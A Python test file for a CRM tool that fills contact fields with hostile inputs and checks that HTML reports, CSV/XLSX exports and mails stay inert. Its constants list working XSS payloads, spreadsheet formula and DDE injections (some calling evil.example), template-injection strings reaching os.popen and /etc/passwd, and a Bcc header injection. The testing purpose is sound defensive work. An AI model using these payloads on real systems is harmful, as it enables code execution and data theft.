"""H31, H32, H34: what a CRM holds stays text, in pages, mails, tables, terminals and templates.

Every contact field of a spreadsheet holds each line of three corpora. The whole loop runs over it,
and everything that it writes for people is read with a parser: no page has an element, attribute
or address that a value put there, no table a cell that a spreadsheet program would run, no text the
result of a template that a value or a rule smuggled in.
"""

from __future__ import annotations

import csv
import io
import json
import re
from email import message_from_bytes
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from tests.conftest import Cli

from crm_steward.connect.neutral import rearm
from crm_steward.testing.postbox import Postbox, serving

XSS = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)",
    "</title></style><svg/onload=alert(1)>", "--><script>alert(1)</script><!--",
    "]]></td></tr></table><iframe src=//evil.example>", "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>", "<math><mtext><style><img src onerror=alert(1)>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=q>", "<link rel=stylesheet href=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "<object data=//evil.example>", "<embed src=//evil.example>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "\x3csvg onload=alert(1)\x3e",
    "a\r\nBcc: victim@evil.example\r\n\r\nbody", "a\nSubject: other", "\x1b]0;title\x07\x1b[2J",
    "\u202egnp.exe", "<table background=//evil.example>", "<p style=background:url(//evil.example)>",
)  # fmt: skip
FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"x")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "'=1+1", "''=1+1", "=DDE(1)",
    '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")', "-2+3+cmd|'x'!A0",
)  # fmt: skip
TEMPLATES = (
    "{{ 7 * 191 }}", "{% print(7 * 191) %}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{full_name.__class__}", "{0.__init__}", "{self}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "%(token)s", "$token", "{last_name!r:>999}",
    "{{ lipsum | attr('__globals__') }}", "{% raw %}", "{% include '/etc/passwd' %}", "{#",
)  # fmt: skip
CORPUS = (*XSS, *FORMULAS, *TEMPLATES)
EVALUATED = re.compile(r"\b1337\b|<class '|uid=\d|root:x:|mappingproxy|<function|<module")
HEADERS = (
    "id",
    "first name",
    "last name",
    "email",
    "phone",
    "company",
    "job title",
    "city",
    "notes",
)
ELEMENTS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "table",
        "thead",
        "tbody",
        "tfoot",
        "tr",
        "th",
        "td",
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "a",
        "b",
        "i",
        "strong",
        "em",
        "small",
        "span",
        "div",
        "bdi",
        "br",
        "hr",
        "code",
        "pre",
        "section",
        "header",
        "footer",
        "main",
        "nav",
        "details",
        "summary",
        "caption",
        "col",
        "colgroup",
        "figure",
        "figcaption",
        "abbr",
        "time",
        "article",
        "aside",
        "dfn",
        "sup",
        "sub",
    ]
)


class Page(HTMLParser):
    """A page of ours as a browser takes it apart: its elements, attributes and addresses."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []
        self.metas: list[dict[str, str | None]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [
            value or "" for name, value in attrs if name in {"href", "src", "action", "background"}
        ]
        if tag == "meta":
            self.metas.append(dict(attrs))


def assert_harmless(text: str) -> None:
    """Only elements of our templates, no handler, no address but an anchor, nothing evaluated."""
    page = Page(text)
    assert page.elements - ELEMENTS == set()
    assert {name for name in page.attributes if name.startswith("on")} == set()
    assert [one for one in page.addresses if not one.startswith("#")] == []
    assert [meta for meta in page.metas if meta.get("http-equiv", "").lower() == "refresh"] == []  # type: ignore[union-attr] # a value is a text here
    assert "url(" not in re.sub(r"(?s)<(?:bdi|td|li|p|code)\b.*?</", "", text).lower()
    assert EVALUATED.search(text) is None
    for mark in ("\x1b", "\x07", "\u202e", "\x00"):
        assert mark not in text


TELEPHONE_OR_NUMBER = re.compile(r"\+[0-9][0-9 .]{5,20}|-[0-9]+([.,][0-9]+)?")


def assert_no_formula(table: str, delimiter: str = ",") -> int:
    """No cell begins as a formula may; return how many were prefixed."""
    cells = [cell for row in csv.reader(io.StringIO(table), delimiter=delimiter) for cell in row]
    armed = [
        cell
        for cell in cells
        if re.match(r"[=+\-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20]", cell)
        and not TELEPHONE_OR_NUMBER.fullmatch(cell)
    ]
    assert armed == []
    return sum(cell != rearm(cell) for cell in cells)


RULES = {
    "version": 1,
    "rules": [
        {
            "id": "hostile",
            "about": "{{ 7 * 191 }} {full_name}",
            "severity": "high",
            "check": {"kind": "format", "fields": ["first_name", "email", "phone"]},
            "actions": [
                {"task": {"to": "owner", "due": "7 days", "title": "{{7*191}} {full_name} {email}"}}
            ],
            "mode": "apply",
            "limits": {"max_changes": 1000, "max_percent": 100},
        },
        {
            "id": "all-of-them",
            "about": {"en": "<script>alert(1)</script>", "fr": "=1+1"},
            "severity": "low",
            "check": {"kind": "required", "fields": ["country"]},
            "mode": "report",
        },
    ],
}


@pytest.fixture
def people(tmp_path: Path) -> Path:
    """Write a spreadsheet with the corpora in every column, and settings that read it."""
    path = tmp_path / "people.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(HEADERS)
        for number, hostile in enumerate(CORPUS):
            email = f"p{number}@example.org" if number % 2 else hostile
            writer.writerow([f"r{number}", hostile, hostile, email, *[hostile] * 5])
        writer.writerow(["=1+9", "JEAN", "DUPONT", "jean@example.org", "0612345678", *["x"] * 4])
    (tmp_path / "own.yaml").write_text(yaml.safe_dump(RULES), "utf-8")
    return path


@pytest.fixture
def settings(people: Path) -> dict[str, object]:
    """Return settings under which everything is shown: names on, all limits open."""
    return {
        "version": 1,
        "database": "sqlite:///steward.db",
        "connections": {"people": {"kind": "file", "path": people.name, "country": "FR"}},
        "rules": {"packs": ["format", "freetext"], "paths": ["own.yaml"]},
        "limits": {"max_percent_per_day": 100, "canary": 1000},
        "report": {"names": "on", "recipients": ["a@example.org"]},
    }


def written(tmp_path: Path, settings: dict[str, object]) -> None:
    """Write the settings file."""
    path = tmp_path / "crm-steward.yaml"
    path.write_text(yaml.safe_dump(settings), "utf-8")
    path.chmod(0o600)


def test_nothing_that_the_loop_writes_runs(
    steward: Cli, tmp_path: Path, people: Path, settings: dict[str, object]
) -> None:
    """Pages in both languages, tables, the corrected copy; the original is as it was, to the byte."""
    original = people.read_bytes()
    written(tmp_path, settings)
    for command in (("pull",), ("scan",), ("plan",), ("apply", "--yes", "--approve", "all")):
        done = steward(*command)
        assert done.returncode in {0, 1}, done.stderr
        assert "\x1b" not in done.stdout + done.stderr
    for language in ("en", "fr"):
        done = steward("report", "--format", "html", "--language", language)
        assert done.returncode == 0, done.stderr
        assert_harmless(done.stdout)
        text = steward("report", "--language", language).stdout
        assert "\x1b" not in text
        assert EVALUATED.search(text) is None

    exports = (
        ("journal", "export", "--format", "csv"),
        ("people", "--csv"),
        ("redirects", "--format", "csv"),
    )
    prefixed = sum(assert_no_formula(steward(*command).stdout) for command in exports)
    assert prefixed > 5
    assert people.read_bytes() == original
    copies = [path for path in tmp_path.glob("people*.csv") if path != people]
    assert len(copies) >= 2
    assert sum(assert_no_formula(path.read_text("utf-8-sig")) for path in copies) > 50
    assert [path for path in copies if EVALUATED.search(path.read_text("utf-8-sig"))] == []


def test_nothing_in_what_one_person_is_told_runs(
    steward: Cli, tmp_path: Path, settings: dict[str, object]
) -> None:
    """The export for a person who asks, as a page, for each line of the corpora."""
    written(tmp_path, settings)
    assert steward("pull").returncode == 0
    for number in range(1, len(CORPUS), 8):
        out = tmp_path / f"subject-{number}.html"
        done = steward("subject", "export", "--email", f"p{number}@example.org", "--html", out)
        assert done.returncode == 0, done.stderr
        assert_harmless(out.read_text("utf-8"))


@pytest.mark.parametrize("language", ["en", "fr"])
def test_nothing_in_an_audit_runs(
    steward: Cli, people: Path, tmp_path: Path, language: str
) -> None:
    """The page, and each finding as CSV, XLSX and JSON lines."""
    for ending in ("csv", "xlsx", "jsonl"):
        out = tmp_path / f"findings.{ending}"
        done = steward(
            "audit",
            people,
            "--report",
            tmp_path / "audit.html",
            "--findings",
            out,
            "--language",
            language,
        )
        assert done.returncode == 0, done.stderr
        assert "\x1b" not in done.stdout
    assert_harmless((tmp_path / "audit.html").read_text("utf-8"))
    assert_no_formula((tmp_path / "findings.csv").read_text("utf-8-sig"))
    import openpyxl

    sheet = openpyxl.load_workbook(tmp_path / "findings.xlsx").active
    assert sheet is not None
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert kinds == {"s"}
    for line in (tmp_path / "findings.jsonl").read_text("utf-8").splitlines():
        json.loads(line)


def test_no_value_becomes_a_header_of_a_mail(
    steward: Cli, tmp_path: Path, settings: dict[str, object]
) -> None:
    """The report by mail: the recipients and headers that were set, and no others."""
    postbox = Postbox()
    with serving(postbox) as port:
        mail = {"host": "127.0.0.1", "port": port, "security": "none", "sender": "s@example.org"}
        written(tmp_path, settings | {"mail": mail})
        for command in (("pull",), ("scan",), ("report", "--send")):
            assert steward(*command).returncode == 0
    (content,) = postbox.arrived
    message = message_from_bytes(content)
    assert message.get_all("Bcc") is None
    assert message.get_all("To") == ["a@example.org"]
    assert len(message.get_all("Subject") or ()) == 1
    assert EVALUATED.search(content.decode("utf-8", "replace")) is None
